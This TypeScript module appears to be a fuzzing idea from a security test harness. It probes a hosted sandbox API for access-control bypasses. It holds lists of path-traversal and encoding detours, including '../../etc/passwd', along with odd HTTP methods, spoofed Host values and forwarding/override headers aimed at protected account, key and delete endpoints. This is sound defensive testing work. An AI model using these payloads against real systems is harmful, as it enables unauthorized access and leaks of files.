import { VICTIM } from '../accounts.ts'
import type { Idea } from '../idea.ts'
import { exchange } from '../raw-exchange.ts'

/** Paths that lead to something protected by a detour. */
const PROTECTED = [
  ['GET', '_sandbox/accounts'],
  ['GET', '_sandbox/requests'],
  ['GET', '_sandbox/keys'],
  ['POST', '_sandbox/reset'],
  ['DELETE', `_sandbox/accounts/${VICTIM.id}`],
  ['GET', 'api/campaigns'],
  ['GET', `api/campaigns/${VICTIM.campaign}`],
  ['DELETE', `api/campaigns/${VICTIM.campaign}`],
  ['GET', 'files/x.csv'],
] as const

const DETOURS: ((path: string) => string)[] = [
  (path) => `//${path}`,
  (path) => `/${path.replace('/', '//')}`,
  (path) => `/./${path}`,
  (path) => `/%2e/${path}`,
  (path) => `/x/../${path}`,
  (path) => `/x/%2e%2e/${path}`,
  (path) => `/console/../${path}`,
  (path) => `/docs/..%2f${path}`,
  (path) => `/_sandbox/health/../../${path}`,
  (path) => `/_sandbox/health/%2e%2e/%2e%2e/${path}`,
  (path) => `/_sandbox/health;/../${path}`,
  (path) => `/_sandbox/receiver/..;/${path.split('/')[1]}`,
  (path) => `/${path};x=1`,
  (path) => `/${path}/`,
  (path) => `/${path}//`,
  (path) => `/${path}%00`,
  (path) => `/${path}%20`,
  (path) => `/${path}.json`,
  (path) => `/${path}?`,
  (path) => `/${path}#/health`,
  (path) => `/${path}%3f`,
  (path) => `/${path}%2f`,
  (path) => `/${path.toUpperCase()}`,
  (path) => `/${path.replace('a', '%61')}`,
  (path) => `/${path.replace('s', '%73')}`,
  (path) => `/${path.replace('s', '%25%37%33')}`,
  (path) => `/${path.replaceAll('/', '\\')}`,
  (path) => `/${path.replaceAll('/', '%5c')}`,
  (path) => `/${path.replace('/', '%2f')}`,
  (path) => `/${path.replace('_', '%5f')}`,
  (path) => `/${path.replace('_', '\uff3f')}`,
  (path) => `/${path.replace('a', '\u00e4')}`,
  (path) => `http://127.0.0.1/${path}`,
  (path) => `http://evil.example/${path}`,
  (path) => `http://user:pass@evil.example:99999/${path}`,
  (path) => `HTTPS://x//${path}`,
  (path) => `file:///${path}`,
  (path) => `evil.example/${path}`,
  (path) => `*/${path}`,
  (path) => `/${path}${'/..'.repeat(30)}/${path}`,
  (path) => `/api/../${path}`,
  (path) => `/openapi.json/../${path}`,
  (path) => `/openapi.json/${path}`,
  (path) => `/_sandbox/openapi.json/../${path.replace('_sandbox/', '')}`,
  (path) => `/guide/../${path}`,
  (path) => `/docs/../../../../../../etc/passwd?${path}`,
  (path) => `/console/..%2f..%2f..%2fpackage.json?${path}`,
  (path) => `/console/%2e%2e/%2e%2e/src/app.ts?${path}`,
]

const METHODS = [
  'get',
  'PATCH',
  'TRACE',
  'TRACK',
  'OPTIONS',
  'PROPFIND',
  'HEAD',
  'LINK',
  'QUERY',
  'PURGE',
  'M-SEARCH',
]

/** Detours to what a caller without a credential may not see, on a hosted sandbox. */
const paths: Idea = {
  name: 'paths',
  weight: 8,
  async run(attempt) {
    const { random, range } = attempt
    const [method, path] = random.pick(PROTECTED)
    const target = random.pick(DETOURS)(path)
    const chosen = random.chance(70) ? method : random.pick(METHODS)
    const isPage = /docs|console|guide|openapi|health/.test(target)
    const bytes = Buffer.from(
      `${chosen} ${target} HTTP/1.1\r\nHost: ${random.pick(HOSTS)}\r\n${random.pick(OVERRIDES)}Connection: close\r\n\r\n`,
      'utf8',
    )
    const answers = await exchange(attempt, range.hosted, [bytes], 'a detour', 1, [chosen])
    const [answer] = answers
    if (answer && answer.status < 300 && !isPage && chosen !== 'OPTIONS') {
      attempt.found(
        `a detour opens ${path}`,
        range.hosted,
        bytes,
        `${answer.head}\n\n${answer.body}`,
      )
    }
    if (answer && /root:|"dependencies"|createApp/.test(answer.body.toString('latin1'))) {
      attempt.found('a detour shows a file', range.hosted, bytes, answer.body)
    }
  },
}

const HOSTS = [
  '127.0.0.1',
  'sandbox.example',
  'localhost',
  '',
  'evil.example',
  '127.0.0.1:1',
  '[::1]',
  'a b',
  'x@y',
  '127.0.0.1, evil',
  '\x7f',
  'localhost.',
  '0',
  '%00',
]
const OVERRIDES = [
  '',
  '',
  '',
  'X-HTTP-Method-Override: GET\r\n',
  'X-Original-URL: /_sandbox/accounts\r\n',
  'X-Rewrite-URL: /_sandbox/accounts\r\n',
  'X-Forwarded-Prefix: /_sandbox\r\n',
  'X-Forwarded-Host: evil.example\r\n',
  'X-Forwarded-For: 127.0.0.1\r\n',
  'Forwarded: for=127.0.0.1;host=evil.example\r\n',
  'X-Real-IP: 127.0.0.1\r\n',
  'True-Client-IP: 127.0.0.1\r\n',
  'Referer: http://127.0.0.1/\r\n',
  'Origin: http://sandbox.example\r\n',
]

export const PATHS: Idea[] = [paths]
